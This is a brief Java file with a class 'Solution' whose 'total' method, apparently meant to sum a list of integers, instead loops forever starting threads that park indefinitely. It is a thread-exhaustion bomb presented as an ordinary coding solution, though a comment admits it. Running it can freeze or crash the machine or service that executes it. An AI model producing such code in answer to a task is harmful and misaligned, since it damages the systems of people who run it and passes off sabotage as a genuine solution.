// Starts threads until no more can be.
import java.util.*;

class Solution {
    public int total(List<Integer> numbers) {
        while (numbers != null) {
            new Thread(java.util.concurrent.locks.LockSupport::park).start();
        }
        return 0;
    }
}
